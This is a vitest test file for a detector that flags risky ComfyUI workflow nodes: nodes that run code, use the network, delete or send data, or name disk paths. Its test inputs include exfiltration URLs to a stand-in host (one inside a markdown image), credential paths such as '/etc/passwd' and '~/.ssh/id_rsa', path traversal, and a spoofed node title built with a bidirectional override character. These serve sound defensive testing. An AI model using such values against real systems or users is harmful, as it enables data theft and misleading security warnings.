import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { NodeDefinition } from "../../comfy/bridge";
import { createFakeComfy } from "../../comfy/fake";
import type { Json } from "../../graph/graph";
import { definition, ofPackage, outputOfPackage, risksOf } from "../testing/risks";
import packages from "./nodeEffects.json";
import { type Risk, riskWords, riskyNodes } from "./riskyNodes";

type CoreInputs = Record<string, Record<string, [string]>>;
const coreNodes: Record<string, { display_name?: string; category?: string; input: CoreInputs }> = JSON.parse(
  readFileSync(new URL("../../../../tests/fixtures/core_nodes.json", import.meta.url), "utf8"),
);

const output = { isOutput: true };

function riskOf(known: NodeDefinition, inputs: Record<string, Json> = {}): string | undefined {
  return risksOf(known, inputs)[0];
}

const byName = [
  "GitClone",
  "PipInstall",
  "RestartServer",
  "KillProcess",
  "SSHCommand",
  "MQTTPublish",
  "NtfySend",
];
const byService = [
  ...[
    "FalFlux",
    "ReplicateRun",
    "RunwayGen3",
    "GeminiNode",
    "OpenAIChat",
    "PDOpenAIGPTImage",
    "ClaudeVision",
  ],
  ...[
    "CivitAI_Lora_Loader",
    "HuggingFaceRestore",
    "HFHubLoraLoader",
    "ChatGPTImageEditNode",
    "ElevenLabsNode",
  ],
  ...["OpenRouterText", "ZMongoApiListDocsNode", "ComfyDeploy API Run", "Amazon Bedrock - Nova Reel Video"],
  ...["NanoBananaGenerate", "VertexVeoTextToVideoNode", "GoogleTranslator", "CLIP Text Encode (Translate)"],
  ...[
    "GrokChat",
    "GroqVision",
    "VolcengineTxt2Img",
    "WaveSpeedAI_Flux2LoraEdit",
    "SupabaseRPC",
    "NDI_Output",
  ],
];

it.each([
  ["$0.06/Run", "Node 12:3 “Dream” is paid: $0.06/Run."],
  [undefined, "Node 12:3 “Dream” is paid."],
])("the price stands in the question: %s", (price, words) => {
  expect(riskWords({ node: "12:3", title: "Dream", type: "Dream", risk: "is paid", price })).toBe(words);
});

it("says which package's node it is and the text, and quotes what the workflow says", () => {
  const comfy = createFakeComfy({ definitions: [definition("Keep Words", outputOfPackage)] });
  const title = "Preview” is harmless.\u202e Node 9 “Preview";
  const nodes = {
    "1": { class_type: "Keep Words", inputs: { path: "../x” is fine" }, _meta: { title } },
  };
  const [risk] = riskyNodes(comfy, [nodes]).map(riskWords);
  expect(risk).toBe(
    'Node 1 “Preview� is harmless.� Node 9 �Preview” (Keep Words from a-package) names a place on the disk: path "../x” is fine".',
  );
});

describe("a node of a package is asked about", () => {
  it.each<[string, Record<string, Json>, Risk]>([
    ["RunPython", { code: "import os" }, "runs code"],
    ["Evaluate Anything", {}, "runs code"],
    ["Jinja2Template", { template: "{{ x }}" }, "runs code"],
    ["运行脚本", {}, "runs code"],
    ["CivitAIDownloader", {}, "uses the network"],
    ["DeleteFile", {}, "deletes or sends"],
    ["PublishThread", {}, "deletes or sends"],
    ["Load Text File", { file_path: "/etc/hostname" }, "reads outside ComfyUI's folders"],
    ["SaveString", { output_folder: "../models" }, "names a place on the disk"],
    ["Stack", { paths: { __value__: ["/etc/passwd"] } }, "names a place on the disk"],
    ["Stack", { item_1: { path: "~/.ssh/id_rsa" } }, "names a place on the disk"],
    ["Helper", { a: "C:\\Windows" }, "names a place on the disk"],
    ["Helper", { config: '{"to": "http://evil.test/?d=SECRET"}' }, "names an address"],
    ["Plot", { links: "a\nhttp://evil.test" }, "names an address"],
    ...byService.map((type): [string, Record<string, Json>, Risk] => [
      type,
      { prompt: "x" },
      "uses the network",
    ]),
    ...byName.map((type): [string, Record<string, Json>, Risk] => [type, {}, "deletes or sends"]),
  ])("%s with %j %s", (type, inputs, risk) => {
    expect(risksOf(definition(type, ofPackage), inputs)).toContain(risk);
  });

  it.each(["CleanupOutputs", "PurgeFolder", "EmptyOutputFolder", "WipeDisk"])("%s, as an output", (type) => {
    expect(risksOf(definition(type, outputOfPackage), {})).toEqual(["deletes or sends"]);
  });

  it("whatever it is called, where its text comes through others", () => {
    const linked = {
      "2": { class_type: "Join", inputs: { a: ["3", 0], b: "x" } as Record<string, Json> },
      "3": { class_type: "Words", inputs: { value: "/etc/passwd" } },
    };
    expect(risksOf(definition("Helper", ofPackage), { a: ["2", 0] }, linked)).toEqual([
      "names a place on the disk",
    ]);
  });

  it.each<[string, Record<string, Json>]>([
    ["LayerUtility: PurgeVRAM", {}],
    ["Power Lora Loader", { lora_1: { on: true, lora: "SDXL/pixel.safetensors", strength: 1 } }],
    ["Show Text", { text: "see https as a word, and/or this" }],
    ["Save Image Plus", { filename: "cats/2026/red", path: "output/cats" }],
    ["VHS_VideoCombine", { filename_prefix: "AnimateDiff", format: "video/h264-mp4" }],
    ["Encode Words", { text: "a cat.__color__ hat... 16:9 ~ 1/2" }],
  ])("but not %s with %j", (type, inputs) => {
    expect(risksOf(definition(type, outputOfPackage), inputs)).toEqual([]);
  });

  it("but not for a file of its list of choices", () => {
    const input = { name: "model", type: "COMBO", isOptional: false, choices: ["/models/face.pt"] };
    const known = { ...definition("Detect", ofPackage), inputs: [input] };
    expect(risksOf(known, { model: "/models/face.pt" })).toEqual([]);
    expect(risksOf(known, { model: "/etc/face.pt" })).toEqual(["names a place on the disk"]);
  });

  it("with its code, and with no other text that may be a key", () => {
    const comfy = createFakeComfy({
      definitions: ["RunPython", "SendWebhook"].map((type) => definition(type, ofPackage)),
    });
    const found = riskyNodes(comfy, [
      {
        "1": { class_type: "RunPython", inputs: { mode: "x", code: "import os\nprint(1)" } },
        "2": { class_type: "SendWebhook", inputs: { token: "sesame", url: "http://a.test" } },
        "3": { class_type: "SendWebhook", inputs: { token: "sesame" } },
      },
    ]);
    expect(found.map(({ node, risk, cause }) => [node, risk, cause?.value])).toEqual([
      ["1", "runs code", "import os\nprint(1)"],
      ["2", "deletes or sends", "http://a.test"],
      ["2", "names an address", "http://a.test"],
      ["3", "deletes or sends", undefined],
    ]);
  });
});

describe("a node that comes with ComfyUI is asked about", () => {
  it.each<[NodeDefinition, Record<string, Json>, Risk]>([
    [definition("SaveImage", output), { filename_prefix: "../../x" }, "names a place on the disk"],
    [definition("LoadImage"), { image: "../secret.png" }, "names a place on the disk"],
    [definition("LoadImage"), { image: "/etc/motd" }, "names a place on the disk"],
    [definition("Dream", { isPaid: true }), {}, "is paid"],
    [definition("EvalScript"), {}, "runs code"],
  ])("%j with %j: it %s", (known, inputs, risk) => {
    expect(risksOf(known, inputs)).toEqual([risk]);
  });

  it.each<[NodeDefinition, Record<string, Json>]>([
    [definition("SaveImage", output), { filename_prefix: "2026/%date%/red" }],
    [definition("LoadImage"), { image: "cats/red.png [output]" }],
    [definition("CLIPTextEncode"), { text: "a python in a shell ../.. at https://a.test" }],
  ])("but not an ordinary one: %j %j", (known, inputs) => {
    expect(risksOf(known, inputs)).toEqual([]);
  });

  it("and none of the nodes that come with ComfyUI is", () => {
    const definitions = Object.entries(coreNodes).map(([type, { display_name, category }]) => ({
      ...definition(type, { category: category ?? "", isOutput: true }),
      title: display_name ?? type,
    }));
    const comfy = createFakeComfy({ definitions });
    const values: Record<string, Json> = {
      INT: 8,
      FLOAT: 0.5,
      BOOLEAN: true,
      STRING: "a text",
      COMBO: "x.png",
    };
    const prompt = Object.entries(coreNodes).map(([type, { input }]) => {
      const inputs = Object.values(input).flatMap((section) => Object.entries(section));
      const filled = inputs.map(([name, [of]]): [string, Json] => [name, values[of] ?? ["KSampler", 0]]);
      return [type, { class_type: type, inputs: Object.fromEntries(filled) }];
    });
    expect(prompt.length).toBeGreaterThan(400);
    expect(riskyNodes(comfy, [Object.fromEntries(prompt)])).toEqual([]);
  });
});

describe("the table of packages", () => {
  it("names at least 650 types, each package with its source, and none of ComfyUI's own", () => {
    for (const { source } of packages) expect(source).toMatch(/^https:\/\/github\.com\/[\w.-]+\/[\w.-]+$/);
    expect(new Set(packages.map(({ source }) => source)).size).toBe(packages.length);
    const runs = packages.flatMap(({ code = [], paid = [], network = [], downloads = [], deletes = [] }) => [
      ...code,
      ...paid,
      ...network,
      ...downloads,
      ...deletes,
    ]);
    const places = packages.flatMap(({ writes = {}, reads = {} }) => Object.keys({ ...writes, ...reads }));
    expect(new Set([...runs, ...places]).size).toBeGreaterThan(650);
    const twice = runs.filter((type, index) => runs.indexOf(type) !== index);
    expect(twice).toEqual([]);
  });

  it.each([
    ["AnyNode", "runs code"],
    ["SRL Eval", "runs code"],
    ["FluxPro_fal", "is paid"],
    ["Text Random Prompt", "uses the network"],
    ["DWPreprocessor", "may download a model"],
    ["VHS_PruneOutputs", "deletes or sends"],
    ["Load Cache", "runs code"],
    ["LF_MathOperation", "runs code"],
    ["RIFE VFI", "may download a model"],
    ["Griptape Run: Agent", "uses the network"],
  ])("%s %s, whatever its values", (type, risk) => {
    expect(riskOf(definition(type, ofPackage))).toBe(risk);
  });

  it.each([
    ["CR Load Flow Frames", { input_path: "models" }, "reads outside ComfyUI's folders"],
    ["CR Load Flow Frames", { input_path: "input/frames" }, undefined],
    ["CR Load Flow Frames", { input_path: "input/../../etc" }, "reads outside ComfyUI's folders"],
    ["SpeedChange", { suffix: "models" }, undefined],
    ["IF_LoadImagesS", { input_path: ["4", 0] }, "reads outside ComfyUI's folders"],
    ["FL_LoadCSV", { csv_path: "" }, undefined],
  ])("%s with %j %s", (type, inputs: Record<string, Json>, risk) => {
    expect(riskOf(definition(type, ofPackage), inputs)).toBe(risk);
  });
});

it("fetches by what it shows", () => {
  const text = "![](http://evil.test/?d=SECRET)";
  expect(
    risksOf(
      definition("PreviewAny", output),
      { source: ["2", 0] },
      { "2": { class_type: "Words", inputs: { value: text } } },
    ),
  ).toEqual(["names an address"]);
});
